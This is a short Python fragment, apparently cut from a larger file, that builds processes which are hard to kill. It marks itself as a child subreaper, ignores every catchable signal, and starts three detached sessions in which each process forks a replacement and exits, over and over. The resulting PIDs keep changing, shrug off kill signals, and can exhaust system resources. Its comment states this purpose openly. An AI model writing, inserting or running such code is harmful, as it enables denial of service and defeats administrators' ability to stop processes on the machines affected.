# Leaves children that ignore signals, adopt each other's orphans and fork as fast as they die.
import signal

libc.prctl(36, 1, 0, 0, 0)
for number_ in signal.valid_signals():
    try:
        signal.signal(number_, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                if os.fork():
                    os._exit(0)
            except OSError:
                pass
end()
os._exit(0)
